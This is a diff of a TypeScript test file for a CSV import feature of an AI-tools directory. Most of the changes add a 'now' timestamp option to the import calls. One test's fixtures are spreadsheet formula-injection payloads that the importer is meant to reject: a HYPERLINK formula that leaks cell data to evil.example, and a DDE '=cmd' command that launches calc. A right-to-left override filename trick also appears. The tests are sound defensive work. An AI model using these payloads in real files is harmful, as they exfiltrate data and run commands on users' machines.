@@ -60,7 +60,7 @@ describe("imports never create a category", () => {
       `Imag Gen Tool,,Draws,,Imag Generation,https://imag-gen.example,,Free,,,`,
       `Known Cat Tool,,Writes,,Writing,https://known-cat.example,,Free,,,`,
     ].join("\n");
-    const report = await importCsv(db(), csv, { source: "cli:unknown.csv" });
+    const report = await importCsv(db(), csv, { now: new Date(), source: "cli:unknown.csv" });
     expect(report.added.map((a) => a.name)).toEqual(["Known Cat Tool"]);
     const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
     expect(errors[2]).toContain("Category 'Quantum Stuff' does not exist");
@@ -85,6 +85,7 @@ describe("imports never create a category", () => {
       `Still Unknown Tool,,Other unknown,,Space Lasers,https://space-lasers.example,,Free,,,`,
     ].join("\n");
     const report = await importCsv(db(), csv, {
+      now: new Date(),
       source: "cli:mapped.csv",
       categoryMap: { "Quantum Stuff": "research-education" },
       audit: { actor: actor() },
@@ -101,7 +102,12 @@ describe("imports never create a category", () => {
 
   it("an admin's dry run is kept with its file and carried out once with the confirmed mapping", async () => {
     const csv = [HEADER, `Dry Quantum Tool,,Quantum,,Quantum Stuff,https://dry-quantum.example,,Free,,,`].join("\n");
-    const dry = await importCsv(db(), csv, { source: "admin:dry.csv", dryRun: true, keepDryRun: { csv } });
+    const dry = await importCsv(db(), csv, {
+      now: new Date(),
+      source: "admin:dry.csv",
+      dryRun: true,
+      keepDryRun: { csv },
+    });
     expect(dry.importId).toBeTypeOf("number");
     expect(await getTool(db(), "dry-quantum-tool")).toBeNull();
     const kept = await getImportRun(db(), dry.importId as number);
@@ -113,13 +119,17 @@ describe("imports never create a category", () => {
       {
         actor: actor(),
       },
+      "draft",
+      new Date(),
     );
     expect(done.added.map((a) => a.name)).toEqual(["Dry Quantum Tool"]);
     expect(await getImportRun(db(), dry.importId as number)).toMatchObject({
       pending: false,
       confirmedById: done.importId,
     });
-    await expect(confirmDryRun(db(), dry.importId as number, {}, { actor: actor() })).rejects.toThrow(/already/);
+    await expect(
+      confirmDryRun(db(), dry.importId as number, {}, { actor: actor() }, "draft", new Date()),
+    ).rejects.toThrow(/already/);
     const { runs } = await listImportRuns(db());
     expect(runs.map((r) => r.id)).toEqual(expect.arrayContaining([dry.importId, done.importId]));
   });
@@ -134,6 +144,7 @@ describe("imports never create a category", () => {
         description: "A tool in a category that does not exist at all",
         category: "Quantum Stuff",
       } as never,
+      new Date(),
     ).catch((e: Error) => e);
     expect(res).toBeInstanceOf(Error);
     expect(String((res as Error).message)).toMatch(/choose one of the listed categories/i);
@@ -147,7 +158,7 @@ describe("rows that used to import silently", () => {
       `Short Row Tool,,Missing three cells,,Writing,https://short-row.example,,Free`,
       `Full Row Tool,,All cells,,Writing,https://full-row.example,,Free,,,`,
     ].join("\n");
-    const report = await importCsv(db(), csv, { source: "short-rows" });
+    const report = await importCsv(db(), csv, { now: new Date(), source: "short-rows" });
     expect(report.added.map((a) => a.name)).toEqual(["Full Row Tool"]);
     expect(report.errors).toEqual([
       { row: 2, name: "Short Row Tool", messages: ["Row 2 has no cell for columns 'tags', 'features', 'use_cases'"] },
@@ -163,7 +174,7 @@ describe("rows that used to import silently", () => {
       `Long Html Tool,,Fine,Quotes <code>npm i</code> in its docs,Writing,https://long-html.example,,Free,,,`,
       `Less Than Tool,,Costs < 5 dollars and a > b,,Writing,https://less-than.example,,Free,,,`,
     ].join("\n");
-    const report = await importCsv(db(), csv, { source: "html" });
+    const report = await importCsv(db(), csv, { now: new Date(), source: "html" });
     const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
     expect(errors[2]).toContain("Name cannot contain HTML (found '<b>')");
     expect(errors[3]).toContain("Description cannot contain HTML");
@@ -180,7 +191,7 @@ describe("rows that used to import silently", () => {
       `"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",,Fine,,Writing,https://leak-tool.example,,Free,,,`,
       `Calc Tool,,"=cmd|' /C calc'!A0",,Writing,https://calc-tool.example,,Free,,,`,
     ].join("\n");
-    const report = await importCsv(db(), csv, { source: "formulas" });
+    const report = await importCsv(db(), csv, { now: new Date(), source: "formulas" });
     expect(report.added.map((a) => a.name)).toEqual(["Speed Tool"]);
     const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
     expect(errors[2]).toMatch(/^Row 2: Full description looks like a spreadsheet formula/);
@@ -244,7 +255,7 @@ describe("admin imports land for review (issue 31)", () => {
       `Slug Clash Tool,chatgpt,Clashes,,Writing,https://slug-clash.example,,Free,,,`,
       `Rtl Tool \u202Eexe.txt,,Sneaky,,Writing,https://rtl-tool.example,,Free,,,`,
     ].join("\n");
-    const report = await importCsv(db(), csv, { source: "admin:warn.csv", landAs: "draft" });
+    const report = await importCsv(db(), csv, { now: new Date(), source: "admin:warn.csv", landAs: "draft" });
     const [clash, rtl] = report.added;
     expect(clash?.slug).toMatch(/^chatgpt-\d+$/);
     expect(rtl?.slug).toBe("rtl-tool-exe-txt");
@@ -275,6 +286,7 @@ describe("admin imports land for review (issue 31)", () => {
       `Rollback Two,,Second,,Writing,https://rollback-two.example,,Free,,,`,
     ].join("\n");
     const report = await importCsv(db(), csv, {
+      now: new Date(),
       source: "admin:rollback.csv",
       landAs: "active",
       audit: { actor: actor() },
@@ -347,7 +359,7 @@ describe("categories as managed data", () => {
     const report = await importCsv(
       db(),
       [HEADER, `Helpdesk Bot,,Answers,,Customer Service,https://helpdesk-bot.example,,Free,,,`].join("\n"),
-      { source: "after-merge" },
+      { now: new Date(), source: "after-merge" },
     );
     expect(report.added).toHaveLength(1);
     expect((await getTool(db(), "helpdesk-bot"))?.category).toBe("Business");
@@ -381,7 +393,7 @@ describe("categories as managed data", () => {
     const moved = await importCsv(
       db(),
       [HEADER, `Unretire Tool,,Moves,,Confirm Source,https://unretire-tool.example,,Free,,,`].join("\n"),
-      { source: "cli:unretire.csv" },
+      { now: new Date(), source: "cli:unretire.csv" },
     );
     expect(moved.added).toHaveLength(1);
     const toolCategory = async () =>
